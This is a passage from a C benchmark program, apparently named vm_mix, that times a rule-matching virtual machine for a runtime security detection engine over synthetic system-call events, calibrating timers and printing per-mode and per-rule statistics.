					cap = cap * 2 + ll + 64;
					out = realloc(out, cap);
					if (!out)
						die("out of memory");
				}
				if (!strncmp(p, "- rule: ", 8)) {
					size_t nl2 = ll;
					while (nl2 && (p[nl2 - 1] == '\n' || p[nl2 - 1] == '\r'))
						nl2--;
					n += (size_t)snprintf(out + n, cap - n, "%.*s (copy %d)\n", (int)nl2, p, k);
				} else {
					memcpy(out + n, p, ll);
					n += ll;
				}
			}
			p += ll;
		}
	}
	*outlen = n;
	return out;
}

/* ------------------------------------------------------------------ timing */

static double cpu_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
	return (double)ts.tv_sec * 1e9 + (double)ts.tv_nsec;
}

static double mono_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec * 1e9 + (double)ts.tv_nsec;
}

static inline uint64_t ticks(void)
{
#ifdef HAVE_TSC
	_mm_lfence();
	uint64_t t = __rdtsc();
	_mm_lfence();
	return t;
#else
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
#endif
}

static double ns_per_tick = 1.0, tick_overhead = 0.0, chunk_overhead = 0.0;

static void calibrate(void)
{
#ifdef HAVE_TSC
	double best = 1e30;
	for (int r = 0; r < 3; r++) {
		double m0 = mono_ns();
		uint64_t t0 = ticks();
		while (mono_ns() - m0 < 50e6)
			;
		double m1 = mono_ns();
		uint64_t t1 = ticks();
		double v = (m1 - m0) / (double)(t1 - t0);
		if (v < best)
			best = v;
	}
	ns_per_tick = best;
#endif
	/* the cost of an empty timed section, minimum of many (subtracted from each sample) */
	uint64_t mn = UINT64_MAX;
	for (int i = 0; i < 200000; i++) {
		uint64_t a = ticks(), b = ticks();
		if (b - a < mn)
			mn = b - a;
	}
	tick_overhead = (double)mn;
	double cm = 1e30;
	for (int i = 0; i < 2000; i++) {
		double a = cpu_ns(), b = cpu_ns();
		if (b - a < cm)
			cm = b - a;
	}
	chunk_overhead = cm;
}

enum mode { M_STATE, M_FIRST, M_ALL, M_VM_FIRST, M_VM_ALL, M_MAX };
static const char *const mode_name[M_MAX] = {"state", "state+vm_first", "state+vm_all", "vm_first", "vm_all"};

#define CHUNK 2048

struct result {
	double ns;       /* total ns for the figure */
	uint64_t events; /* events processed */
	uint64_t matches, matched_events, dropped;
	uint64_t *per_rule; /* ALL mode: matches per rule */
};

static struct fc_evt evs[CHUNK];

/* --vm-types: the VM runs only for these event names (profiling one syscall's rules) */
static fc_evtset vm_types;
static bool vm_types_set;

/* vm_all, first repetition: VM ticks and calls per event type, and the VM's counters */
static uint64_t type_ticks[FC_EVENT_MAX], type_calls[FC_EVENT_MAX];
static struct fc_vm_stats vm_counters;

/* noinline: profilers attach to it (valgrind --toggle-collect=run_pass) */
static __attribute__((noinline)) void run_pass(const struct fc_bundle *B, enum mode m, struct result *res, uint64_t *per_rule)
{
	struct fc_state *st = new_state();
	struct fc_vm *vm = fc_vm_new(B);
	if (!vm)
		die("fc_vm_new failed");
	uint32_t nrules = fc_bundle_nrules(B);
	uint32_t *matches = malloc(sizeof(uint32_t) * (nrules + 1));
	enum fc_match_mode mm = (m == M_FIRST || m == M_VM_FIRST) ? FC_MATCH_FIRST : FC_MATCH_ALL;
	memset(res, 0, sizeof *res);
	size_t off = 0;
	uint64_t done = 0;
	double total = 0;
	uint64_t tsum = 0;
	while (done < S.n) {
		uint32_t k = 0;
		while (k < CHUNK && done + k < S.n) {
			int r = fc_evt_decode(S.buf + off, S.len - off, &evs[k]);
			if (r != FC_EVT_OK)
				die("event %" PRIu64 " does not decode: %s", done + k, fc_evt_strerror(r));
			off += evs[k].len;
			k++;
		}
		if (m == M_STATE) {
			double t0 = cpu_ns();
			for (uint32_t i = 0; i < k; i++) {
				fc_state_event(st, &evs[i]);
				fc_state_event_done(st);
			}
			total += cpu_ns() - t0 - chunk_overhead;
		} else if (vm_types_set) {
			/* profiling: state for all, the VM only for the chosen types, untimed */
			for (uint32_t i = 0; i < k; i++) {
				fc_state_event(st, &evs[i]);
				if (fc_evtset_has(&vm_types, evs[i].type)) {
					uint32_t n = fc_vm_run(vm, evs[i].type, fc_state_extractor(st), mm, matches, nrules + 1);
					res->matches += n;
					res->matched_events += n > 0;
				}
				fc_state_event_done(st);
			}
		} else if (m == M_FIRST || m == M_ALL) {
			double t0 = cpu_ns();
			for (uint32_t i = 0; i < k; i++) {
				fc_state_event(st, &evs[i]);
				uint32_t n = fc_vm_run(vm, evs[i].type, fc_state_extractor(st), mm, matches, nrules + 1);
				res->matches += n;
				res->matched_events += n > 0;
				fc_state_event_done(st);
			}
			total += cpu_ns() - t0 - chunk_overhead;
		} else {
			for (uint32_t i = 0; i < k; i++) {
				fc_state_event(st, &evs[i]);
				const struct fc_extractor *x = fc_state_extractor(st);
				uint64_t a = ticks();
				uint32_t n = fc_vm_run(vm, evs[i].type, x, mm, matches, nrules + 1);
				uint64_t b = ticks();
				uint64_t d = b - a;
				bool drop = (double)d * ns_per_tick > 250e3;
				if (drop)
					res->dropped++;
				else
					tsum += d;
				res->matches += n;
				res->matched_events += n > 0;
				if (per_rule) {
					for (uint32_t j = 0; j < n; j++)
						per_rule[matches[j]]++;
					if (!drop) {
						type_ticks[evs[i].type] += d;
						type_calls[evs[i].type]++;
					}
				}
				fc_state_event_done(st);
			}
		}
		done += k;
	}
	if (m == M_VM_FIRST || m == M_VM_ALL) {
		uint64_t kept = S.n - res->dropped;
		total = ((double)tsum - tick_overhead * (double)kept) * ns_per_tick;
		total = total * (double)S.n / (double)(kept ? kept : 1);
	}
	res->ns = total;
	res->events = S.n;
	if (per_rule)
		fc_vm_stats(vm, &vm_counters);
	free(matches);
	fc_vm_free(vm);
	fc_state_free(st);
}

static double type_ticks_share(uint32_t t)
{
	double all = 0;
	for (uint32_t i = 0; i < FC_EVENT_MAX; i++)
		all += (double)type_ticks[i] - tick_overhead * (double)type_calls[i];
	return all > 0 ? ((double)type_ticks[t] - tick_overhead * (double)type_calls[t]) / all : 0;
}

static int cmp_d(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;
	return (x > y) - (x < y);
}

/* ------------------------------------------------------------------ main */

static void usage(void)
{
	fprintf(stderr, "usage: vm_mix [--events N] [--reps N] [--rules N] [--bundle FILE] [--seed S] [--quiet]\n"
			"              [--only state|state+vm_first|state+vm_all|vm_first|vm_all] [--vm-types T,...]\n");
	exit(2);
}

int main(int argc, char **argv)
{
	uint64_t nevents = 1000000;
	int reps = 5, copies = 1;
	const char *bundle_path = NULL;
	bool quiet = false;
	int only = -1;
	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--events") && i + 1 < argc)
			nevents = strtoull(argv[++i], NULL, 10);
		else if (!strcmp(argv[i], "--reps") && i + 1 < argc)
			reps = atoi(argv[++i]);
		else if (!strcmp(argv[i], "--rules") && i + 1 < argc)
			copies = atoi(argv[++i]);
		else if (!strcmp(argv[i], "--bundle") && i + 1 < argc)
			bundle_path = argv[++i];
		else if (!strcmp(argv[i], "--seed") && i + 1 < argc)
			evv_rng = strtoull(argv[++i], NULL, 0);
		else if (!strcmp(argv[i], "--only") && i + 1 < argc) {
			only = -2;
			for (int m = 0; m < M_MAX; m++)
				if (!strcmp(argv[i + 1], mode_name[m]))
					only = m;
			if (only == -2)
				usage();
			i++;
		} else if (!strcmp(argv[i], "--vm-types") && i + 1 < argc) {
			char *list = argv[++i];
			for (char *t = strtok(list, ","); t; t = strtok(NULL, ","))
				if (!fc_evtset_add_name(&vm_types, t))
					die("unknown event type %s", t);
			vm_types_set = true;
		} else if (!strcmp(argv[i], "--quiet"))
			quiet = true;
		else
			usage();
	}
	if (reps < 1 || copies < 1 || nevents < 1)
		usage();
	if (bundle_path && copies != 1)
		die("--rules applies to the embedded ruleset, not to --bundle");

	/* rules */
	struct fc_bundle *B;
	char err[512];
	double tc0 = mono_ns();
	if (bundle_path) {
		if (fc_bundle_open(bundle_path, &B, err, sizeof err))
			die("%s: %s", bundle_path, err);
	} else {
		size_t tl;
		char *text = replicate_rules(fc_default_rules, fc_default_rules_len, copies, &tl);
		void *img;
		size_t il;
		if (!fc_rules_to_bundle(NULL, 0, "falcod_rules.yaml", text, tl, &img, &il, quiet ? NULL : stderr))
			die("the default ruleset does not compile");
		free(text);
		if (fc_bundle_load(img, il, &B, err, sizeof err))
			die("bundle: %s", err);
		free(img);
	}
	double compile_ms = (mono_ns() - tc0) / 1e6;
	uint32_t nrules = fc_bundle_nrules(B);

	/* world and events */
	build_world();
	make_host_root();
	double tg0 = mono_ns();
	generate(nevents);
	double gen_ms = (mono_ns() - tg0) / 1e6;
	calibrate();

	double *samples[M_MAX];
	for (int m = 0; m < M_MAX; m++)
		samples[m] = calloc((size_t)reps, sizeof(double));
	uint64_t *per_rule = calloc(nrules + 1, sizeof(uint64_t));
	struct result r, last[M_MAX];
	for (int rep = 0; rep < reps; rep++)
		for (int m = 0; m < M_MAX; m++) {
			if (only >= 0 && m != only)
				continue;
			run_pass(B, (enum mode)m, &r, rep == 0 && m == M_VM_ALL ? per_rule : NULL);
			samples[m][rep] = r.ns / (double)r.events;
			last[m] = r;
		}

	double mn[M_MAX], med[M_MAX], mx[M_MAX];
	for (int m = 0; m < M_MAX; m++) {
		qsort(samples[m], (size_t)reps, sizeof(double), cmp_d);
		mn[m] = samples[m][0];
		mx[m] = samples[m][reps - 1];
		med[m] = reps % 2 ? samples[m][reps / 2] : (samples[m][reps / 2 - 1] + samples[m][reps / 2]) / 2;
	}
	for (int m = 0; m < M_MAX; m++)
		if (only < 0 || m == only)
			printf("{\"suite\":\"vm\",\"kind\":\"mix\",\"name\":\"%s\",\"ns_per_event\":{\"min\":%.2f,"
			       "\"median\":%.2f,\"max\":%.2f},\"events\":%" PRIu64 ",\"reps\":%d,\"rules\":%u,"
			       "\"rule_copies\":%d,\"matches\":%" PRIu64 ",\"matched_events\":%" PRIu64
			       ",\"dropped_samples\":%" PRIu64 "}\n",
			       mode_name[m], mn[m], med[m], mx[m], S.n, reps, nrules, copies,
			       m == M_STATE ? 0 : last[m].matches, m == M_STATE ? 0 : last[m].matched_events,
			       last[m].dropped);
	fflush(stdout);
	if (quiet)
		goto out;

	printf("\nvm_mix: %" PRIu64 " events (%.1f MB scap), %u rules (%d cop%s), %d repetitions; "
	       "compile %.0f ms, generate %.0f ms; ns/tick %.4f, timer overhead %.1f ticks/%.0f ns per chunk\n",
	       S.n, (double)S.len / 1e6, nrules, copies, copies == 1 ? "y" : "ies", reps, compile_ms, gen_ms, ns_per_tick,
	       tick_overhead, chunk_overhead);
	printf("%-16s %12s %12s %10s %10s\n", "figure", "min ns/ev", "median ns/ev", "matches", "matched ev");
	for (int m = 0; m < M_MAX; m++)
		printf("%-16s %12.1f %12.1f %10" PRIu64 " %10" PRIu64 "\n", mode_name[m], mn[m], med[m],
		       m == M_STATE ? 0 : last[m].matches, m == M_STATE ? 0 : last[m].matched_events);
	if (only < 0)
		printf("%-16s %12.1f %12.1f   (state+vm minus state, cross-check of vm_first/vm_all)\n", "diff first",
	       mn[M_FIRST] - mn[M_STATE], med[M_FIRST] - med[M_STATE]);
	if (only < 0)
		printf("%-16s %12.1f %12.1f\n", "diff all", mn[M_ALL] - mn[M_STATE], med[M_ALL] - med[M_STATE]);

	if (vm_counters.events)
		printf("\nVM per event (vm_all): %.2f rules run, %.2f extractions, %.2f memoised sub hits\n",
		       (double)vm_counters.rules_run / (double)vm_counters.events,
		       (double)vm_counters.extractions / (double)vm_counters.events,
		       (double)vm_counters.sub_hits / (double)vm_counters.events);
	printf("\nevent mix (VM ns per event of the type, vm_all, first repetition):\n");
	for (int pass = 0; pass < 1; pass++) {
		uint32_t order[FC_EVENT_MAX], no = 0;
		for (uint32_t t = 0; t < FC_EVENT_MAX; t++)
			if (S.per_type[t])
				order[no++] = t;
		for (uint32_t i = 0; i < no; i++)
			for (uint32_t j = i + 1; j < no; j++)
				if (S.per_type[order[j]] > S.per_type[order[i]]) {
					uint32_t tmp = order[i];
					order[i] = order[j];
					order[j] = tmp;
				}
		for (uint32_t i = 0; i < no; i++)
			printf("  %-14s %9" PRIu64 " %6.2f%%  %8.1f ns  %5.1f%% of VM time\n", fc_events[order[i]].name,
			       S.per_type[order[i]], 100.0 * (double)S.per_type[order[i]] / (double)S.n,
			       type_calls[order[i]] ? ((double)type_ticks[order[i]] / (double)type_calls[order[i]] - tick_overhead) *
							      ns_per_tick
						    : 0.0,
			       100.0 * type_ticks_share(order[i]));
	}
	printf("\nmatches per rule (ALL mode, first repetition):\n");
	for (uint32_t i = 0; i < nrules; i++)
		if (per_rule[i])
			printf("  %8" PRIu64 "  %s\n", per_rule[i], fc_bundle_rule(B, i)->name);
out:
	for (int m = 0; m < M_MAX; m++)
		free(samples[m]);
	free(per_rule);
	free(S.buf);
	fc_bundle_free(B);
	rm_host_root();
	return 0;
}
